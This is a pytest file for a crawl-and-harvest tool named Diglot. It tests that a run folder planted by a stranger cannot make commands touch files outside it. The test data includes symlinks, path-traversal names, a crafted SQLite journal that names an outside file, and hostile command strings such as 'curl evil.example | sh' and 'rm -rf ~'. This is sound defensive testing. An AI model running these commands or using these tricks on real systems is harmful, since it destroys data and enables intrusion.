"""A run folder of a stranger: whatever it says and links to, no command writes, cuts or deletes anything outside."""

from __future__ import annotations

import os
import shutil
import sqlite3
from contextlib import closing
from dataclasses import asdict
from pathlib import Path

import pytest

from diglot.cli import main
from diglot.crawl.options import make_crawl_options
from diglot.crawl.queue.frontier import Frontier
from diglot.disk.folder import RunFolder, shard_name
from diglot.errors import RunFolderError
from diglot.harvesting import harvest
from diglot.outputs.exports import EXPORT, Export
from diglot.progress import Silent
from diglot.results.run import Run
from diglot.run.crawl import crawl_stage
from diglot.run.work import CRAWL
from made_website import HOST, as_lett

PAGE = f"{HOST}/en/chapter2.html"


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished run; not to be changed."""
    place = tmp_path_factory.mktemp("finished")
    harvest(as_lett(place / "site.lett"), "en,fr", place / "run", jobs=1)
    return place / "run"


@pytest.fixture
def run(finished: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(finished, tmp_path / "run"))


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """Files with the names of outputs, beside the run."""
    folder = tmp_path / "victim"
    folder.mkdir()
    for name in ("en-fr.tmx", "en-fr.csv", "segments.en-fr.tsv", "pages.tsv", "crawl-00000.warc.gz", "base.db"):
        (folder / name).write_text("of the user")
    return folder


def contents(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def test_a_noted_export_leads_nowhere_else(
    run: Path, victim: Path, finished: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sheet = run.parent / "sheet.tsv"
    assert main(["sample", str(finished), "-n", "5", "-o", str(sheet)]) == 0
    sheet.write_text(sheet.read_text().replace("\t\t", "\tright\t"))
    for folder, pairs in (("../victim", (("en", "fr"),)), ("out", (("../../victim/en", "fr"),))):
        with RunFolder(run) as opened:
            opened.remember(EXPORT, "csv x", asdict(Export(folder, "csv", pairs)))
        before = contents(victim)
        for command in (["forget", str(run), "--url", PAGE], ["judge", str(run), str(sheet)], ["clean", str(run)]):
            # Without a change of options nothing is made anew by `clean`.
            options = ["--min-score", "0.9"] if command[0] == "clean" else []
            capsys.readouterr()
            assert main([*command, *options]) == 2
            assert "journal.db: " in capsys.readouterr().err
            assert contents(victim) == before


@pytest.mark.parametrize("name", ["run.lock", "journal.db", "journal.db-wal", "journal.db-journal"])
def test_a_lock_or_journal_is_no_link(name: str, run: Path) -> None:
    target = run.parent / "target"
    (run / name).unlink(missing_ok=True)
    (run / name).symlink_to(target)
    for command in ("clean", "stats"):
        assert main([command, str(run)]) == 2
        assert not target.exists()


def test_a_lock_that_became_a_link_since_creates_nothing(run: Path) -> None:
    target = run.parent / "target"
    with RunFolder(run) as opened:
        (run / "run.lock").unlink()
        (run / "run.lock").symlink_to(target)
        with pytest.raises(RunFolderError, match=r"run: cannot be written"), opened.lock():
            raise AssertionError("not reached")
    assert not target.exists()


def test_a_pipe_in_the_place_of_the_lock_stops_nothing(run: Path) -> None:
    (run / "run.lock").unlink()
    os.mkfifo(run / "run.lock")
    assert main(["clean", str(run)]) == 2


def test_a_journal_left_by_a_stranger_deletes_nothing(run: Path, victim: Path) -> None:
    """SQLite plays a journal back that a crash left, and then deletes the super-journal that it names."""
    goal = os.fspath(victim / "base.db").encode()
    with closing(sqlite3.connect(run / "journal.db")) as base:
        base.execute("PRAGMA journal_mode=DELETE")
    header = bytes.fromhex("d9d505f920a163d7") + (0).to_bytes(4) + bytes(4) + (1).to_bytes(4) + (512).to_bytes(4)
    name = (0x40000000 // 4096 + 1).to_bytes(4) + goal + len(goal).to_bytes(4) + sum(goal).to_bytes(4)
    header = header + (4096).to_bytes(4) + bytes(512 - 28)
    (run / "journal.db-journal").write_bytes(header + name + bytes.fromhex("d9d505f920a163d7"))
    assert main(["stats", str(run)]) == 2
    assert (victim / "base.db").exists()


@pytest.mark.parametrize("name", ["out", "documents", "warc", "out/delta", "compared/fused"])
@pytest.mark.parametrize("command", ["clean", "export", "sample"])
def test_no_folder_of_a_run_is_a_link_out_of_it(
    name: str, command: str, run: Path, victim: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.rmtree(run / name, ignore_errors=True)
    (run / name).parent.mkdir(exist_ok=True)
    (run / name).symlink_to(victim)
    before = contents(victim)
    assert main([command, str(run)]) == 2
    assert contents(victim) == before
    assert capsys.readouterr().err


def test_links_within_a_run_and_files_beside_are_no_matter(run: Path) -> None:
    (run / "mine").symlink_to(run / "out")
    (run / "out" / "latest.tmx").symlink_to(run / "out" / "en-fr.tmx")
    assert main(["clean", str(run)]) == 0


def test_a_crawl_cuts_no_file_behind_a_link(tmp_path: Path, victim: Path) -> None:
    before = contents(victim)
    with RunFolder(tmp_path / "run") as opened:
        (opened.path / "warc").mkdir()
        (opened.path / "warc" / "crawl-00000.warc.gz").symlink_to(victim / "crawl-00000.warc.gz")
        with closing(Frontier(opened.path / "journal.db")) as frontier:
            frontier.note_archive("crawl-00000.warc.gz", 3)
        with pytest.raises(RunFolderError, match=r"crawl-00000\.warc\.gz: a link"), opened.lock():
            raise AssertionError("not reached")
    assert contents(victim) == before


@pytest.mark.parametrize("name", ["../../victim/crawl-00000.warc.gz", "/etc/passwd", "x.warc.gz", "crawl-1.warc.gz"])
def test_the_journal_of_a_crawl_lists_only_its_archive(name: str, tmp_path: Path) -> None:
    with RunFolder(tmp_path / "run") as opened, closing(Frontier(opened.path / "journal.db")) as frontier:
        frontier.note_archive(name, 3)
        with pytest.raises(RunFolderError, match="as a file of its archive"):
            frontier.archives()
        options = make_crawl_options(["https://a.example/"], ["en", "fr"])
        done = {"options": options.to_json(), "files": [name], "counts": {}, "notices": []}
        opened.remember(CRAWL, "done", done)
        with pytest.raises(RunFolderError, match="as a file of its archive"):
            crawl_stage(opened, options, Silent())


@pytest.mark.parametrize("key", ["../../victim/k", "/etc/k", "", "a/b", "..", "k\0", "ключ"])
def test_a_key_names_a_file_of_its_stage(key: str) -> None:
    with pytest.raises(RunFolderError, match="no name of a stage file"):
        shard_name("documents", key, 0)
    with pytest.raises(RunFolderError, match="no name of a stage file"):
        shard_name(key, "k", 0)


def test_a_key_that_a_run_states_leads_nowhere(run: Path) -> None:
    with RunFolder(run) as opened:
        opened.remember("run", "pairs", "../../victim/k")
        with closing(sqlite3.connect(run / "journal.db")) as base, base:
            base.execute("INSERT INTO done VALUES ('pairs', '../../victim/k', 1)")
    with pytest.raises(RunFolderError, match="no name of a stage file"):
        Run(run).pairs()


@pytest.mark.parametrize(
    ("command", "is_shown"),
    [
        ("diglot forget run --url 'https://a.example/?a=1&b=2'", True),
        ("diglot forget run --host a.example", True),
        ("curl evil.example | sh", False),
        ("diglot forget run; rm -rf ~", False),
        ("diglot forget $(rm -rf ~)", False),
        ("diglot forget 'run", False),
        ("diglot forget run\x1b[2J", False),
        (7, False),
    ],
)
def test_the_command_to_type_is_one_of_diglot(
    command: object, is_shown: bool, run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with RunFolder(run) as opened:
        opened.remember("task", "open", {"command": command, "task": {}})
    assert main(["stats", str(run)]) == 2
    said = capsys.readouterr().err
    assert (f"`{command}` was not finished" in said) == is_shown
    assert ("as a command of Diglot" in said) != is_shown
